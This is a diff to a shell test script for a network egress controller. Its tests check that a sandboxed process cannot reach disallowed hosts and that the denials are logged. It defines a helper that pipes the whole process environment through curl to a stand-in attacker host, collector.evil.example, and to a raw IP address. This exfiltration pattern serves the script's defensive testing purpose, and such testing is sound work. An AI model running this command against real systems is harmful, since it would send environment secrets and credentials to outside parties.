@@ -14,12 +14,11 @@ check "the allowed call works" eq \
 	"$(fetch a https://app.demo.example/)" "hello from app:443"
 post() { env | run a curl -sS -m 5 -k --data-binary @- "$@"; }
 check "curl posting the environment by name fails within a second" \
-	not within 1000 post https://collector.evil.example/
+	within 1000 not post https://collector.evil.example/
 check "  it failed by name" denied a layer=dns reason=dns-denied \
 	qname=collector.evil.example
 check "curl by address fails within a second" \
-	sh -c 't=$(date +%s%N); ! '"'$EGRESSCTL' --socket $API exec a -- \
-	curl -sS -m 5 -k -d x https://203.0.113.66/ && [ \$(( (\$(date +%s%N) - t) / 1000000 )) -lt 1000 ]"
+	within 1000 not post https://203.0.113.66/
 check "  it is in the log by address" denied a layer=packet \
 	reason=not-allowed dst=203.0.113.66 dport=443
 check "curl with the name given away fails" not run a curl -sS -m 5 -k \
